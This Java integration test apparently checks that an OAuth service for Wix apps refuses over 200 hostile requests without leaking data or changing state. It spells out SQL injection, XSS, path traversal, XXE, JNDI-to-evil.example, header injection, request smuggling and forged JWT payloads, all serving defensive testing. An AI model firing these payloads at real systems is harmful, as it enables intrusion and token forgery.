package io.wixoauth.web.hostile;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import io.wixoauth.simulator.IdentityProvider;
import io.wixoauth.simulator.WebhookSigner;
import io.wixoauth.web.support.Browser;
import io.wixoauth.web.support.Http;
import io.wixoauth.web.support.Installs;
import io.wixoauth.web.support.RawHttp;
import io.wixoauth.web.support.ServiceEnvironment;
import io.wixoauth.web.support.ServiceIT;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import org.jboss.arquillian.container.test.api.Deployment;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static io.wixoauth.web.support.Eventually.settled;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A corpus of malicious requests across every endpoint (issue 5, hostile input). Each is sent byte for byte over a
 * socket and must be answered 4xx, never 5xx, in the endpoint's error shape (JSON {@code {error, error_description}}
 * for APIs, the HTML page for site owners), with no stack trace, internal name or reflected markup, and no header an
 * attacker planted. Around the corpus, the stored installations, jobs and shared tokens must be unchanged, the audit
 * chain intact, and the service still healthy and serving.
 */
@ServiceIT
class HostileInputIT {

    /** How an endpoint shows errors, and so how its answers are checked. */
    private enum Surface { API, PAGE }

    private record Attack(String name, Surface surface, String head, byte[] body) {
        static Attack get(String name, Surface surface, String target, String... headers) {
            return new Attack(name, surface, "GET " + target + " HTTP/1.1\r\n" + lines(headers), new byte[0]);
        }

        static Attack send(String name, Surface surface, String method, String target, String contentType, byte[] body,
                           String... headers) {
            return new Attack(name, surface, method + " " + target + " HTTP/1.1\r\n" + lines(headers)
                    + (contentType == null ? "" : "Content-Type: " + contentType + "\r\n"), body);
        }

        private static String lines(String... headers) {
            StringBuilder all = new StringBuilder();
            for (String header : headers) {
                all.append(header).append("\r\n");
            }
            return all.toString();
        }
    }

    /** Stack frames, exception and package names, SQL engines: nothing an attacker could learn the insides from. */
    private static final Pattern LEAK = Pattern.compile("(?i)exception|\\bat [a-z]+\\.[a-z]|caused by|io\\.wixoauth|"
            + "org\\.eclipse|org\\.glassfish|fish\\.payara|jakarta\\.|java\\.|eclipselink|hibernate|org\\.h2|"
            + "postgres|sqlstate|syntax error|<script|pwned|\\$\\{jndi");

    /**
     * Refused by Payara's HTTP layer before the application sees them (a NUL or overlong UTF-8 in the path, encoded
     * dot segments, a 64 KiB header, a 10 000-character request line, TRACE, request smuggling): a bare 4xx with an
     * empty body. Nothing to leak, but also not our JSON; listed so that an empty answer from the application itself
     * still fails. (A body on DELETE reaches the application since the Wix API proxy passes such bodies on: JSON now.)
     */
    private static final java.util.Set<String> REFUSED_BY_THE_HTTP_LAYER = java.util.Set.of(
            "token API, id NUL", "admin detail, id NUL", "admin action, id NUL",
            "token API, id overlong UTF-8", "admin detail, id overlong UTF-8", "admin action, id overlong UTF-8",
            "token API, 64 KiB bearer", "callback, 10 000-character code",
            "webhook, request smuggling (Transfer-Encoding and Content-Length)", "TRACE",
            "path /..%2f..%2f..%2fetc%2fpasswd", "path /%2e%2e/WEB-INF/web.xml");

    private final ServiceEnvironment env = ServiceEnvironment.get();
    private final java.sql.Timestamp unsweptUntil = java.sql.Timestamp.from(java.time.Instant.now().plusSeconds(6 * 60));
    private final IdentityProvider idp = env.idp();
    private final WebhookSigner wixKey = env.wix().webhooks();

    @TestFactory
    Stream<DynamicTest> maliciousRequestsAreRefusedAndChangeNothing() throws Exception {
        String installed = Installs.withRefreshToken(env);
        Callback used = completedCallback();
        List<Attack> corpus = corpus(installed, used);
        assertThat(corpus).as("the corpus").hasSizeGreaterThanOrEqualTo(200);
        Map<String, Object> before = snapshot();

        Stream<DynamicTest> attacks = corpus.stream().map(attack -> DynamicTest.dynamicTest(attack.name(), () -> refused(attack)));
        Stream<DynamicTest> after = Stream.of(DynamicTest.dynamicTest("nothing changed and the service is healthy", () -> {
            assertThat(snapshot()).isEqualTo(before);
            assertThat(Http.json(Http.get(env.service().resolve("api/admin/audit/verify"), operator())).getBoolean("intact"))
                    .isTrue();
            assertThat(Http.get(env.service().resolve("health/ready"), null).statusCode()).isEqualTo(200);
            assertThat(env.accessToken(installed).statusCode()).isEqualTo(200);
        }));
        return Stream.concat(attacks, after);
    }

    private void refused(Attack attack) {
        RawHttp.Answer answer = RawHttp.send(env.service(), attack.head(), attack.body());
        String seen = attack.name() + " answered " + answer.status() + " " + answer.headers() + " "
                + answer.body().substring(0, Math.min(300, answer.body().length()));

        assertThat(answer.status()).as(seen).isBetween(400, 499);
        assertThat(LEAK.matcher(answer.body()).find()).as("leaks or reflects in: " + answer.body()).isFalse();
        assertThat(answer.headers().keySet()).as("planted headers").doesNotContain("x-injected");
        assertThat(answer.headers().getOrDefault("set-cookie", List.of())).noneMatch(c -> c.contains("pwned"));
        assertThat(answer.header("location")).as("no redirect on a refusal").isNull();
        String type = String.valueOf(answer.header("content-type")).toLowerCase(Locale.ROOT);
        if (REFUSED_BY_THE_HTTP_LAYER.contains(attack.name())) {
            assertThat(answer.body()).as(seen).isEmpty();
        } else if (attack.surface() == Surface.API) {
            assertThat(type).as(seen).startsWith("application/json");
            JsonObject error = Json.createReader(new StringReader(answer.body())).readObject();
            assertThat(error.getString("error")).isNotBlank();
            assertThat(error.getString("error_description")).isNotBlank();
        } else {
            assertThat(type).as(seen).startsWith("text/html");
        }
    }

    private List<Attack> corpus(String installed, Callback used) throws Exception {
        List<Attack> corpus = new ArrayList<>();
        String reader = "Authorization: Bearer " + env.bearer("token-reader");
        String operator = "Authorization: Bearer " + operator();
        byte[] reason = "{\"reason\":\"hostile input test\"}".getBytes(StandardCharsets.UTF_8);

        // Hostile instance ids, in every place an instance id goes.
        for (Map.Entry<String, String> id : hostileIds().entrySet()) {
            corpus.add(Attack.get("token API, id " + id.getKey(), Surface.API,
                    "/api/v1/instances/" + id.getValue() + "/access-token", reader));
            corpus.add(Attack.get("admin detail, id " + id.getKey(), Surface.API,
                    "/api/admin/installations/" + id.getValue(), operator));
            corpus.add(Attack.send("admin action, id " + id.getKey(), Surface.API, "POST",
                    "/api/admin/installations/" + id.getValue() + "/actions/force-refresh", "application/json", reason, operator));
            corpus.add(Attack.get("callback, instanceId " + id.getKey(), Surface.PAGE,
                    "/oauth/callback?code=abc&state=" + used.state() + "&instanceId=" + id.getValue(), used.cookie()));
            corpus.add(Attack.get("audit filter, instanceId " + id.getKey(), Surface.API,
                    "/api/admin/audit?instanceId=" + id.getValue(), operator));
        }

        // Forged bearer tokens, on the token API and on the admin API.
        for (Map.Entry<String, String> forged : forgedBearers().entrySet()) {
            corpus.add(Attack.get("token API, bearer " + forged.getKey(), Surface.API,
                    "/api/v1/instances/" + installed + "/access-token", "Authorization: Bearer " + forged.getValue()));
            corpus.add(Attack.get("admin list, bearer " + forged.getKey(), Surface.API,
                    "/api/admin/installations", "Authorization: Bearer " + forged.getValue()));
        }
        corpus.add(Attack.get("token API, no credentials", Surface.API, "/api/v1/instances/" + installed + "/access-token"));
        corpus.add(Attack.get("token API, Basic credentials", Surface.API, "/api/v1/instances/" + installed + "/access-token",
                "Authorization: Basic YWRtaW46YWRtaW4="));
        corpus.add(Attack.get("token API, bearer in the query", Surface.API, "/api/v1/instances/" + installed
                + "/access-token?access_token=" + env.bearer("token-reader")));
        corpus.add(Attack.get("token API, operator without token-reader", Surface.API,
                "/api/v1/instances/" + installed + "/access-token", operator));
        corpus.add(Attack.get("admin list, token-reader", Surface.API, "/api/admin/installations", reader));
        corpus.add(Attack.send("admin action, viewer only", Surface.API, "POST", "/api/admin/installations/" + installed
                + "/actions/forget-refresh-token", "application/json", reason, "Authorization: Bearer " + env.bearer("oauth-viewer")));
        corpus.add(Attack.get("audit, viewer without auditor", Surface.API, "/api/admin/audit",
                "Authorization: Bearer " + env.bearer("oauth-viewer")));
        corpus.add(Attack.get("token API, 64 KiB bearer", Surface.API, "/api/v1/instances/" + installed + "/access-token",
                "Authorization: Bearer " + "A".repeat(64 * 1024)));

        // The install callback: replays, missing or crossed state, header injection and open redirects.
        String good = "code=" + used.code() + "&state=" + used.state() + "&instanceId=" + used.instanceId();
        corpus.add(Attack.get("callback replayed", Surface.PAGE, "/oauth/callback?" + good, used.cookie()));
        corpus.add(Attack.get("callback replayed without the cookie", Surface.PAGE, "/oauth/callback?" + good));
        corpus.add(Attack.get("callback with another browser's cookie", Surface.PAGE, "/oauth/callback?" + good,
                "Cookie: __Host-wixoauth-state=" + randomToken()));
        corpus.add(Attack.get("callback with a forged state matching a forged cookie", Surface.PAGE, "/oauth/callback?code=x&state="
                + "forged-state-0123456789&instanceId=" + UUID.randomUUID(), "Cookie: __Host-wixoauth-state=forged-state-0123456789"));
        corpus.add(Attack.get("callback without code", Surface.PAGE, "/oauth/callback?state=" + used.state()
                + "&instanceId=" + used.instanceId(), used.cookie()));
        corpus.add(Attack.get("callback without state", Surface.PAGE, "/oauth/callback?code=x&instanceId=" + used.instanceId(),
                used.cookie()));
        corpus.add(Attack.get("callback without instanceId", Surface.PAGE, "/oauth/callback?code=x&state=" + used.state(),
                used.cookie()));
        corpus.add(Attack.get("callback with nothing", Surface.PAGE, "/oauth/callback"));
        corpus.add(Attack.get("callback, CR/LF in state", Surface.PAGE, "/oauth/callback?code=x&instanceId="
                + used.instanceId() + "&state=a%0d%0aSet-Cookie:%20pwned=1%0d%0aX-Injected:%201", used.cookie()));
        corpus.add(Attack.get("callback, CR/LF in code", Surface.PAGE, "/oauth/callback?code=a%0d%0aLocation:%20http://evil.example"
                + "&state=" + used.state() + "&instanceId=" + used.instanceId(), used.cookie()));
        corpus.add(Attack.get("callback, open redirect through redirectUrl", Surface.PAGE, "/oauth/callback?" + good
                + "&redirectUrl=https%3A%2F%2Fevil.example%2F", used.cookie()));
        corpus.add(Attack.get("callback, open redirect through state", Surface.PAGE, "/oauth/callback?code=x&instanceId="
                + used.instanceId() + "&state=https%3A%2F%2Fevil.example%2F", "Cookie: __Host-wixoauth-state=https://evil.example/"));
        corpus.add(Attack.get("callback, 10 000-character code", Surface.PAGE, "/oauth/callback?code=" + "c".repeat(10_000)
                + "&state=" + used.state() + "&instanceId=" + used.instanceId(), used.cookie()));
        corpus.add(Attack.get("callback, unicode state", Surface.PAGE, "/oauth/callback?code=x&instanceId=" + used.instanceId()
                + "&state=%E2%80%AE%F0%9F%98%80", used.cookie()));
        corpus.add(Attack.get("callback, state twice", Surface.PAGE, "/oauth/callback?" + good + "&state=" + randomToken(),
                used.cookie()));
        corpus.add(Attack.get("callback, script in code", Surface.PAGE, "/oauth/callback?code=%3Cscript%3Ealert(1)%3C/script%3E"
                + "&state=" + used.state() + "&instanceId=" + used.instanceId(), used.cookie()));
        corpus.add(Attack.get("callback, CR/LF in the cookie header", Surface.PAGE, "/oauth/callback?" + good,
                "Cookie: __Host-wixoauth-state=" + used.state() + "\r\nX-Injected: 1"));

        // The install link.
        for (Map.Entry<String, String> token : Map.of(
                "CR/LF", "a%0d%0aLocation:%20https://evil.example%0d%0aX-Injected:%201",
                "script", "%3Cscript%3Ealert(1)%3C/script%3E",
                "5000 characters", "t".repeat(5000),
                "unicode", "%E2%80%AE%D0%B0%F0%9F%98%80",
                "JNDI lookup", "$%7Bjndi:ldap://evil.example/a%7D",
                "space and quote", "a%20b%22c",
                "NUL", "abc%00def").entrySet()) {
            corpus.add(Attack.get("install link, token " + token.getKey(), Surface.PAGE, "/oauth/install?token=" + token.getValue()));
        }

        // Webhooks: unsigned, wrongly signed, expired, malformed, oversized.
        for (Map.Entry<String, byte[]> webhook : hostileWebhooks().entrySet()) {
            corpus.add(Attack.send("webhook, " + webhook.getKey(), Surface.API, "POST", "/webhooks/wix", "text/plain",
                    webhook.getValue()));
        }
        String signed = wixKey.sign("AppInstalled", installed, Json.createObjectBuilder().add("appId", env.wix().appId()).build(),
                Instant.now());
        corpus.add(Attack.send("webhook, signed but sent as multipart", Surface.API, "POST", "/webhooks/wix",
                "multipart/form-data; boundary=x", ("--x\r\nContent-Disposition: form-data; name=a\r\n\r\n" + signed
                        + "\r\n--x--\r\n").getBytes(StandardCharsets.UTF_8)));
        corpus.add(Attack.send("webhook, GET", Surface.API, "GET", "/webhooks/wix", null, new byte[0]));
        corpus.add(new Attack("webhook, request smuggling (Transfer-Encoding and Content-Length)", Surface.API,
                "POST /webhooks/wix HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Type: text/plain\r\n",
                ("0\r\n\r\nGET /api/admin/installations HTTP/1.1\r\nX-Injected: 1\r\n\r\n").getBytes(StandardCharsets.UTF_8)));

        // Admin bodies and query parameters.
        String action = "/api/admin/installations/" + installed + "/actions/";
        corpus.add(Attack.send("action, 10 000-deep JSON", Surface.API, "POST", action + "force-refresh", "application/json",
                ("[".repeat(10_000) + "]".repeat(10_000)).getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, 10 000-deep object", Surface.API, "POST", action + "force-refresh", "application/json",
                ("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)).getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, 2 MiB reason", Surface.API, "POST", action + "force-refresh", "application/json",
                ("{\"reason\":\"" + "r".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, text/plain", Surface.API, "POST", action + "force-refresh", "text/plain", reason, operator));
        corpus.add(Attack.send("action, XML", Surface.API, "POST", action + "force-refresh", "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"
                        .getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, no reason", Surface.API, "POST", action + "force-refresh", "application/json",
                "{}".getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, blank reason", Surface.API, "POST", action + "force-refresh", "application/json",
                "{\"reason\":\"   \"}".getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, reason as a number", Surface.API, "POST", action + "force-refresh", "application/json",
                "{\"reason\":5}".getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, JSON null", Surface.API, "POST", action + "force-refresh", "application/json",
                "null".getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, truncated JSON", Surface.API, "POST", action + "force-refresh", "application/json",
                "{\"reason\":\"x".getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("action, invalid UTF-8", Surface.API, "POST", action + "force-refresh", "application/json",
                new byte[]{'{', '"', 'r', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'}, operator));
        corpus.add(Attack.send("action, unknown name", Surface.API, "POST", action + "drop-table", "application/json", reason, operator));
        corpus.add(Attack.send("action, traversal in the name", Surface.API, "POST", action + "..%2F..%2Fjobs%2Freencryption",
                "application/json", reason, operator));
        corpus.add(Attack.send("action, on an unknown instance", Surface.API, "POST", "/api/admin/installations/"
                + UUID.randomUUID() + "/actions/forget-refresh-token", "application/json", reason, operator));
        corpus.add(Attack.send("job, no reason", Surface.API, "POST", "/api/admin/jobs/reencryption", "application/json",
                "{}".getBytes(StandardCharsets.UTF_8), operator));
        corpus.add(Attack.send("job, text/plain", Surface.API, "POST", "/api/admin/jobs/bulk-refresh", "text/plain", reason, operator));
        corpus.add(Attack.send("job, cancel an unknown job", Surface.API, "POST", "/api/admin/jobs/" + UUID.randomUUID() + "/cancel",
                "application/json", reason, operator));
        corpus.add(Attack.get("job, SQL in the id", Surface.API, "/api/admin/jobs/'%20OR%20'1'='1", operator));
        corpus.add(Attack.get("job, unknown id", Surface.API, "/api/admin/jobs/" + UUID.randomUUID(), operator));
        for (String query : List.of("limit=-1", "limit=0", "limit=999999999", "limit=abc", "limit=1e3",
                "cursor='%20OR%20'1'='1", "cursor=%3Cscript%3E", "updatedSince=yesterday", "updatedSince=2026-13-45T00:00:00Z",
                "mode=HACKED", "state=%00", "mode=REFRESH_TOKEN'%20--")) {
            corpus.add(Attack.get("installations list, " + query, Surface.API, "/api/admin/installations?" + query, operator));
        }
        for (String query : List.of("since=garbage", "until=2026-13-45", "limit=-5", "cursor=abc'--", "since=%00",
                "actor=" + "a".repeat(5000))) {
            corpus.add(Attack.get("audit, " + query, Surface.API, "/api/admin/audit?" + query, operator));
        }
        corpus.add(Attack.get("audit export, since=garbage", Surface.API, "/api/admin/audit/export?since=garbage", operator));

        // Methods, content negotiation, paths and headers.
        String token = "/api/v1/instances/" + installed + "/access-token";
        for (String method : List.of("PUT", "DELETE", "PATCH", "POST")) {
            corpus.add(Attack.send("token API, " + method, Surface.API, method, token, "application/json", reason, reader));
        }
        corpus.add(Attack.get("token API, Accept XML only", Surface.API, token, reader, "Accept: application/xml"));
        corpus.add(Attack.send("TRACE", Surface.API, "TRACE", "/", null, new byte[0]));
        for (String path : List.of("/WEB-INF/web.xml", "/META-INF/MANIFEST.MF", "/..%2f..%2f..%2fetc%2fpasswd",
                "/api/v1/../../WEB-INF/web.xml", "/%2e%2e/WEB-INF/web.xml", "/api/admin/..;/..;/WEB-INF/web.xml",
                "/WEB-INF%2fweb.xml", "/api/v1/instances/", "/api/v1/instances//access-token", "/oauth/%2e%2e/WEB-INF/web.xml")) {
            corpus.add(Attack.get("path " + path, Surface.API, path, operator));
        }
        corpus.add(Attack.get("X-Request-Id with CR/LF", Surface.API, token, "X-Request-Id: abc\r\nX-Injected: 1"));
        corpus.add(Attack.get("X-Request-Id with markup", Surface.API, token, "X-Request-Id: <script>alert(1)</script>"));
        corpus.add(Attack.get("Host header injection", Surface.API, token, "X-Forwarded-Host: evil.example"));
        return corpus;
    }

    private static Map<String, String> hostileIds() {
        String uuid = UUID.randomUUID().toString();
        Map<String, String> ids = new java.util.LinkedHashMap<>();
        ids.put("SQL tautology", "'%20OR%20'1'='1");
        ids.put("SQL statement", "1;DROP%20TABLE%20installation;--");
        ids.put("SQL after a UUID", uuid + "'%20--");
        ids.put("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        ids.put("traversal", "..%2F..%2F..%2Fetc%2Fpasswd");
        ids.put("dot segments", "%2e%2e");
        ids.put("NUL", "abc%00def");
        ids.put("overlong UTF-8", "%C0%AE%C0%AE%2F");
        ids.put("Cyrillic homoglyph", "%D0%B0" + uuid.substring(1)); // U+0430 looks like 'a'; a valid id never has it
        ids.put("fullwidth digits", "%EF%BC%91%EF%BC%92%EF%BC%93" + uuid.substring(3));
        ids.put("right-to-left override", "%E2%80%AE" + uuid);
        ids.put("zero-width space", uuid.substring(0, 8) + "%E2%80%8B" + uuid.substring(8));
        ids.put("5000 characters", "f".repeat(5000));
        ids.put("emoji", "%F0%9F%98%80");
        ids.put("CR/LF", "x%0D%0ASet-Cookie:%20pwned=1%0D%0AX-Injected:%201");
        ids.put("JNDI lookup", "$%7Bjndi:ldap://evil.example/a%7D");
        ids.put("double encoding", "%252e%252e%252f");
        ids.put("template", "%7B%7B7*7%7D%7D");
        ids.put("wildcard", "%25");
        ids.put("UUID with braces", "%7B" + uuid + "%7D");
        ids.put("UUID without dashes", uuid.replace("-", ""));
        ids.put("negative number", "-1");
        return ids;
    }

    private Map<String, String> forgedBearers() throws Exception {
        Map<String, String> forged = new java.util.LinkedHashMap<>();
        List<String> groups = List.of("token-reader", "oauth-viewer", "oauth-admin", "oauth-auditor");
        JWTClaimsSet good = idp.claims("attacker", groups).build();
        String genuine = idp.sign(good);
        String[] parts = genuine.split("\\.");
        RSAKey attackerKey = new RSAKeyGenerator(2048).keyID(UUID.randomUUID().toString()).generate();

        forged.put("alg none", unsigned("{\"alg\":\"none\",\"typ\":\"JWT\"}", good));
        forged.put("alg None", unsigned("{\"alg\":\"None\",\"typ\":\"JWT\"}", good));
        forged.put("alg none with the genuine signature", Base64URL.encode("{\"alg\":\"none\"}").toString() + "." + parts[1] + "." + parts[2]);
        forged.put("HS256 keyed with the public key PEM", hmac(idp.publicKeyPem().getBytes(StandardCharsets.UTF_8), good));
        forged.put("HS256 keyed with the JWKS", hmac(padded(idp.jwks().getBytes(StandardCharsets.UTF_8)), good));
        forged.put("signed by another key", rsa(attackerKey, null, good));
        forged.put("signed by another key under the genuine kid", rsa(attackerKey, kidOf(genuine), good));
        forged.put("kid path traversal", rsa(attackerKey, "../../../../../dev/null", good));
        forged.put("kid SQL injection", rsa(attackerKey, "' UNION SELECT 'key' --", good));
        forged.put("kid URL", rsa(attackerKey, "https://evil.example/jwks.json", good));
        forged.put("jku to the attacker's keys", rsaWithHeader(attackerKey, new JWSHeader.Builder(JWSAlgorithm.RS256)
                .jwkURL(URI.create("https://evil.example/jwks.json")).build(), good));
        forged.put("attacker's key embedded as jwk", rsaWithHeader(attackerKey, new JWSHeader.Builder(JWSAlgorithm.RS256)
                .jwk(attackerKey.toPublicJWK()).build(), good));
        forged.put("payload swapped after signing", parts[0] + "." + Base64URL.encode(idp.claims("attacker", groups)
                .claim("groups", List.of("oauth-admin", "token-reader", "root")).build().toString()) + "." + parts[2]);
        forged.put("signature truncated", parts[0] + "." + parts[1] + "." + parts[2].substring(0, parts[2].length() / 2));
        forged.put("signature removed", parts[0] + "." + parts[1] + ".");
        forged.put("expired", idp.sign(idp.claims("attacker", groups).issueTime(Date.from(Instant.now().minusSeconds(7200)))
                .expirationTime(Date.from(Instant.now().minusSeconds(3600))).build()));
        forged.put("wrong issuer", idp.sign(idp.claims("attacker", groups).issuer("https://evil.example").build()));
        forged.put("no issuer", idp.sign(idp.claims("attacker", groups).issuer(null).build()));
        forged.put("wrong audience", idp.sign(idp.claims("attacker", groups).audience("another-service").build()));
        forged.put("no expiry", idp.sign(idp.claims("attacker", groups).expirationTime(null).build()));
        forged.put("not a JWT", "not-a-jwt");
        forged.put("five parts (JWE shape)", "a.b.c.d.e");
        forged.put("empty", "");
        forged.put("two tokens", genuine + " " + genuine.replace('a', 'b'));
        forged.put("unknown critical header", rsaWithHeader(attackerKey, new JWSHeader.Builder(JWSAlgorithm.RS256)
                .criticalParams(java.util.Set.of("exp2")).customParam("exp2", 1).build(), good));
        return forged;
    }

    private Map<String, byte[]> hostileWebhooks() throws Exception {
        Map<String, byte[]> hooks = new java.util.LinkedHashMap<>();
        String instance = UUID.randomUUID().toString();
        JsonObject data = Json.createObjectBuilder().add("appId", env.wix().appId()).build();
        JWTClaimsSet claims = wixKey.claims("AppRemoved", instance, data, Instant.now()).build();
        String genuine = wixKey.sign(claims);
        String[] parts = genuine.split("\\.");
        RSAKey attackerKey = new RSAKeyGenerator(2048).generate();
        hooks.put("empty", new byte[0]);
        hooks.put("whitespace", "   \n ".getBytes(StandardCharsets.UTF_8));
        hooks.put("plain JSON", ("{\"eventType\":\"AppRemoved\",\"instanceId\":\"" + instance + "\"}")
                .getBytes(StandardCharsets.UTF_8));
        hooks.put("alg none", unsigned("{\"alg\":\"none\"}", claims).getBytes(StandardCharsets.UTF_8));
        hooks.put("HS256 keyed with Wix's public key", hmac(wixKey.publicKeyPem().getBytes(StandardCharsets.UTF_8), claims)
                .getBytes(StandardCharsets.UTF_8));
        hooks.put("signed by another key", rsa(attackerKey, null, claims).getBytes(StandardCharsets.UTF_8));
        hooks.put("payload swapped", (parts[0] + "." + Base64URL.encode(wixKey.claims("AppRemoved", UUID.randomUUID().toString(),
                data, Instant.now()).build().toString()) + "." + parts[2]).getBytes(StandardCharsets.UTF_8));
        hooks.put("signature removed", (parts[0] + "." + parts[1] + ".").getBytes(StandardCharsets.UTF_8));
        hooks.put("expired an hour ago (a captured old delivery)", wixKey.sign(wixKey.claims("AppRemoved", instance, data,
                Instant.now().minusSeconds(7200)).expirationTime(Date.from(Instant.now().minusSeconds(3600))).build())
                .getBytes(StandardCharsets.UTF_8));
        hooks.put("data not JSON", wixKey.sign(new JWTClaimsSet.Builder().claim("data", "not json").build())
                .getBytes(StandardCharsets.UTF_8));
        hooks.put("data 10 000 deep", wixKey.sign(new JWTClaimsSet.Builder().claim("data", "[".repeat(10_000)
                + "]".repeat(10_000)).build()).getBytes(StandardCharsets.UTF_8));
        hooks.put("SQL in the signed instanceId", wixKey.sign(wixKey.claims("AppRemoved", "' OR '1'='1", data, Instant.now())
                .build()).getBytes(StandardCharsets.UTF_8));
        hooks.put("script in the signed instanceId", wixKey.sign(wixKey.claims("AppInstalled", "<script>alert(1)</script>", data,
                Instant.now()).build()).getBytes(StandardCharsets.UTF_8));
        hooks.put("no data claim", wixKey.sign(new JWTClaimsSet.Builder().claim("other", 1).build()).getBytes(StandardCharsets.UTF_8));
        hooks.put("70 KiB", ("x".repeat(70 * 1024)).getBytes(StandardCharsets.UTF_8));
        hooks.put("5 MiB", new byte[5 * 1024 * 1024]);
        hooks.put("binary", new byte[]{0, 1, 2, (byte) 0xFF, (byte) 0xFE, 0x7F, '.', '.'});
        hooks.put("invalid UTF-8", new byte[]{'e', 'y', (byte) 0xC0, (byte) 0xAF, '.', 'x', '.', 'y'});
        hooks.put("two JWTs", (genuine + "." + genuine).getBytes(StandardCharsets.UTF_8));
        hooks.put("XML", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"
                .getBytes(StandardCharsets.UTF_8));
        return hooks;
    }

    /** A callback the service completed (the install succeeded), to replay. */
    private record Callback(String code, String state, String instanceId, String cookie) {
    }

    private Callback completedCallback() {
        String instanceId = env.wix().installApp();
        Browser browser = new Browser();
        URI consent = Browser.location(browser.get(env.service().resolve("oauth/install?token="
                + env.wix().newInstallToken(instanceId))));
        String cookie = "Cookie: __Host-wixoauth-state=" + browser.stateCookie().orElseThrow();
        URI callback = Browser.location(browser.approve(consent));
        assertThat(browser.get(callback).statusCode()).isEqualTo(302);
        Map<String, String> query = Browser.query(callback);
        return new Callback(query.get("code"), URLEncoder.encode(query.get("state"), StandardCharsets.UTF_8),
                query.get("instanceId"), cookie);
    }

    /**
     * Every table the service writes. The audit trail may gain only the anonymous refusal summaries (counts per
     * interval), so every other entry, anonymous or not, is compared; the head and the chain's integrity are checked
     * by verify after the attacks.
     */
    private Map<String, Object> snapshot() {
        awaitQuietAuditTrail();
        return Map.of(
                "installations", env.database().query("SELECT * FROM installation ORDER BY instance_id"),
                "jobs", env.database().query("SELECT * FROM background_job ORDER BY id"),
                "staged imports", env.database().query("SELECT * FROM import_line ORDER BY job_id, line_no"),
                "shared tokens", env.database().query("SELECT * FROM shared_access_token ORDER BY instance_id"),
                // Expired states are swept every five minutes, whatever the test does: compare only those that
                // cannot be swept before the test ends (a state written by an attack would live ten minutes).
                "used states", env.database().query("SELECT * FROM oauth_state WHERE expires_at > ? ORDER BY state_hash",
                        unsweptUntil),
                "subscriptions", env.database().query("SELECT * FROM relay_subscription ORDER BY id"),
                "relayed events", env.database().query("SELECT * FROM relay_event ORDER BY seq"),
                // Deliveries of earlier tests' events may still be retried meanwhile: which exist is what matters.
                "deliveries", env.database().query("SELECT id, subscription_id, event_seq FROM relay_delivery ORDER BY id"),
                "proxy budgets", env.database().query("SELECT * FROM wix_call_budget ORDER BY instance_id"),
                // Refusals are summed up per interval (one entry per action and reason), so those may be added; any
                // other entry, anonymous or not, may not.
                "audit trail", env.database().query("SELECT * FROM audit_entry WHERE NOT (actor = 'anonymous' "
                        + "AND instance_id IS NULL AND details LIKE '% refused in the %') ORDER BY seq"));
    }

    /** Entries queued before the snapshot (token-served ones are written every second) land first. */
    private void awaitQuietAuditTrail() {
        settled(() -> env.database().query("SELECT last_seq FROM audit_head").get(0).get("last_seq"),
                Duration.ofMillis(1500), Duration.ofSeconds(30));
    }

    private String operator() {
        return env.bearer("oauth-viewer", "oauth-admin", "oauth-auditor");
    }

    private static String randomToken() {
        return UUID.randomUUID().toString().replace("-", "") + UUID.randomUUID().toString().replace("-", "");
    }

    private static String unsigned(String header, JWTClaimsSet claims) {
        return Base64URL.encode(header) + "." + Base64URL.encode(claims.toString()) + ".";
    }

    private static String hmac(byte[] secret, JWTClaimsSet claims) throws Exception {
        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.HS256).type(JOSEObjectType.JWT).build(), claims);
        jwt.sign(new MACSigner(secret));
        return jwt.serialize();
    }

    private static String rsa(RSAKey key, String kid, JWTClaimsSet claims) throws Exception {
        return rsaWithHeader(key, new JWSHeader.Builder(JWSAlgorithm.RS256).type(JOSEObjectType.JWT).keyID(kid).build(), claims);
    }

    private static String rsaWithHeader(RSAKey key, JWSHeader header, JWTClaimsSet claims) throws Exception {
        SignedJWT jwt = new SignedJWT(header, claims);
        jwt.sign(new RSASSASigner(key));
        return jwt.serialize();
    }

    private static String kidOf(String jwt) throws Exception {
        return SignedJWT.parse(jwt).getHeader().getKeyID();
    }

    /** HS256 needs at least 256 bits of key. */
    private static byte[] padded(byte[] secret) {
        return secret.length >= 32 ? secret : java.util.Arrays.copyOf(secret, 32);
    }
}
